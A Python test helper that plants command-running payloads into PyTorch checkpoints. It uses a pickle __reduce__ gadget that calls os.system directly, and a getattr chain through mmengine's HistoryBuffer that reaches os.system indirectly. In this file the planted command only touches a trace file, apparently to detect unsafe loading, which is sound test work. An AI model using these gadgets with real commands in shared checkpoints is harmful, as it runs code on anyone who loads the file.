"""Checkpoints that run a command when they are loaded carelessly."""

from __future__ import annotations

import os
import shlex
from pathlib import Path
from typing import Any

import torch
from mmengine.logging import HistoryBuffer


class Call:
    """Pickles to a call of ``function(*args)``, made when it is unpickled."""

    def __init__(self, function: Any, *args: Any) -> None:
        self.function, self.args = function, args

    def __call__(self) -> None:
        """Makes pickle accept a call as the function of another call."""

    def __reduce__(self) -> tuple:
        return self.function, self.args


def by_system(command: str) -> Call:
    """Asks for ``os.system`` by name."""
    return Call(os.system, command)


def by_getattr(command: str) -> Call:
    """Reaches ``os.system`` from a log buffer, by ``getattr`` alone."""
    init = Call(getattr, HistoryBuffer, '__init__')
    scope = Call(getattr, init, '__globals__')
    warnings = Call(Call(getattr, scope, 'get'), 'warnings')
    modules = Call(getattr, Call(getattr, warnings, 'sys'), 'modules')
    module = Call(Call(getattr, modules, 'get'), 'os')
    return Call(Call(getattr, module, 'system'), command)


PLANTS = {'system': by_system, 'getattr': by_getattr}


def plant(checkpoint: str | Path, into: Path, how: str) -> Path:
    """Copy a checkpoint with a command added to it.

    Returns:
        The file that the command creates.
    """
    trace = into.with_suffix('.ran')
    content = torch.load(checkpoint, weights_only=False)
    content['planted'] = PLANTS[how](f'touch {shlex.quote(str(trace))}')
    torch.save(content, into)
    return trace
